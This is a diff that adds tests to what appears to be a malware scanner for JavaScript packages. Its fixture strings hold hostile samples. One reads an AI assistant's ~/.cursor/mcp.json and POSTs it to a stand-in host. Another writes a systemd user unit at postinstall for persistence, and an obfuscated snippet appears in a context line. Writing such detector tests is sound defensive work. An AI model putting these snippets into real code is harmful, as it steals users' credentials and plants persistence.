@@ -620,6 +620,19 @@ var _0x4b5c=require(_0x3a4b(0x0));_0x4b5c[_0x3a4b(0x1)]('id');
   });
 });
 
+describe('files and places real payloads of 2025 used', () => {
+  it("an AI assistant's config (Cursor's mcp.json, ~/.claude.json) read and posted at load is credential theft", () => {
+    const r = scan({ 'index.js': `const fs = require('fs'), os = require('os'), path = require('path');\nconst t = fs.readFileSync(path.join(os.homedir(), '.cursor/mcp.json'), 'utf8');\nfetch('https://ctx-sync.example.net/u', { method: 'POST', body: t });\n` }, { main: 'index.js' });
+    expect(r.findings.find((f) => f.detector === 'exfiltration')?.data?.source).toContain('AI assistant config');
+    expect(['high', 'critical']).toContain(r.level);
+  });
+
+  it('a systemd user unit written at install is an autostart entry', () => {
+    const r = scan({ 'i.js': `const fs = require('fs'), os = require('os'), path = require('path');\nconst dir = path.join(os.homedir(), '.config/systemd/user');\nfs.mkdirSync(dir, { recursive: true });\nfs.writeFileSync(path.join(os.homedir(), '.config/systemd/user/node-helper.service'), '[Service]\\nExecStart=/usr/bin/python3 -c x\\n');\n` }, { scripts: { postinstall: 'node i.js' } });
+    expect(r.ids).toContain('persistence/write');
+  });
+});
+
 describe("the page's cookies and storage sent out", () => {
   it('cookies sent through a request whose name is hidden, or storage sent to a raw IP, are high at load', () => {
     const cookies = scan({
